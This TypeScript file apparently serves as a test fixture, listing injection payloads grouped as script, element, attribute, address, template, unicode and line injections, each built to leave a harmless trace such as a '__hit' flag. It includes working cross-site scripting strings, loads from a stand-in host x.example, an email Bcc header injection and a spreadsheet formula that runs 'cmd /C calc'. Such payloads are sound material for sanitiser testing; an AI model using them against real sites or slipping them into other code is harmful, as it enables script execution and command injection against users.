/**
 * Texts that become something else where a text is taken for HTML, an address, a template or a header. Each fits into the
 * shortest field (64 characters) and leaves a trace if it works: `__hit`, a dialog, an element `x-hit` or an attribute
 * `data-hit`.
 */
const GROUPS: Readonly<Record<string, readonly string[]>> = {
  script: [
    '<script>__hit=1</script>',
    '<script>alert(1)</script>',
    '<ScRiPt data-hit>__hit=1</sCrIpT>',
    '<script/data-hit>__hit=1</script>',
    '<script src=data:,__hit=1></script>',
    '<script src=//x.example/a.js data-hit></script>',
    '<scr<script>ipt>__hit=1</scr</script>ipt>',
    '</script><script>__hit=1</script>',
    '<!--><script>__hit=1</script>-->',
    '<script type=module>__hit=1</script>',
    '</title><script>__hit=1</script>',
    '</textarea><script>__hit=1</script>',
    '</style><script>__hit=1</script>',
    ']]><script>__hit=1</script>',
  ],
  element: [
    '<x-hit>text</x-hit>',
    '<x-hit onclick=__hit=1>',
    '<b data-hit>bold</b>',
    '<img src=x data-hit onerror=__hit=1>',
    '<img src=x data-hit onerror="alert(1)">',
    '<img/src=x/onerror=__hit=1//data-hit>',
    '<img src=x:x data-hit onerror&#61;__hit=1>',
    '<svg data-hit onload=__hit=1>',
    '<svg><script data-hit>__hit=1</script></svg>',
    '<svg><animate data-hit onbegin=__hit=1 attributeName=x>',
    '<svg><a xlink:href="javascript:__hit=1"><text>a</text></a>',
    '<math><mtext><x-hit></mtext></math>',
    '<body data-hit onload=__hit=1>',
    '<iframe src="javascript:top.__hit=1" data-hit>',
    '<iframe srcdoc="<script>top.__hit=1</script>">',
    '<object data="data:text/html,<x-hit>">',
    '<embed src="javascript:__hit=1" data-hit>',
    '<video><source data-hit onerror=__hit=1></video>',
    '<audio src=x data-hit onerror=__hit=1>',
    '<details open data-hit ontoggle=__hit=1>',
    '<input autofocus data-hit onfocus=__hit=1>',
    '<select autofocus data-hit onfocus=__hit=1>',
    '<marquee data-hit onstart=__hit=1>',
    '<meta http-equiv=refresh content="0;url=//x.example" data-hit>',
    '<base href=//x.example data-hit>',
    '<link rel=stylesheet href=//x.example data-hit>',
    '<style>*{background:url(//x.example)}</style><x-hit>',
    '<form action="javascript:__hit=1" data-hit><button>',
    '<template><x-hit></template>',
    '<noscript><p title="</noscript><img src=x onerror=__hit=1>">',
  ],
  attribute: [
    '"><x-hit>',
    "'><x-hit>",
    '" data-hit="',
    "' data-hit='",
    '" autofocus onfocus="__hit=1" data-hit="',
    "' onmouseover='__hit=1' data-hit='",
    '` onmouseover=`__hit=1` data-hit=`',
    '"/><svg onload=__hit=1>',
    '" style="background:url(//x.example)" data-hit="',
    '\\"><x-hit>',
  ],
  address: [
    'javascript:__hit=1',
    'JaVaScRiPt:__hit=1',
    ' javascript:alert(1)',
    'java\tscript:__hit=1',
    'javascript://%0a__hit=1',
    'data:text/html,<script>__hit=1</script>',
    'vbscript:msgbox(1)',
    '//x.example/%2e%2e',
  ],
  template: [
    '{{constructor.constructor("__hit=1")()}}',
    '${__hit=1}',
    '#{__hit=1}',
    '<%= __hit=1 %>',
    '{name}<x-hit>{date}',
    "{n, plural, one {<x-hit>} other {'{'}}",
    '__proto__',
    '%3Cscript%3E__hit=1%3C/script%3E',
  ],
  unicode: [
    '\uFF1Cscript\uFF1E__hit=1\uFF1C/script\uFF1E',
    '\u202E<x-hit>\u202C',
    '<x-hit\u0000>',
    '\uFEFF<x-hit>',
    '&lt;x-hit&gt;',
    '&#60;x-hit&#62;',
    '<\u0130mg src=x onerror=__hit=1>',
  ],
  line: [
    'a\r\nBcc: x@x.example\r\n\r\n<x-hit>',
    '=HYPERLINK("//x.example","x")',
    '@SUM(1+1)*cmd|"/C calc"!A0',
  ],
};

export interface Payload {
  name: string;
  text: string;
}

export const PAYLOADS: readonly Payload[] = Object.entries(GROUPS)
  .flatMap(([group, texts]) => texts.map((text) => ({ group, text })))
  .map(({ group, text }, i) => ({ name: `${String(i + 1).padStart(2, '0')} ${group}`, text }));
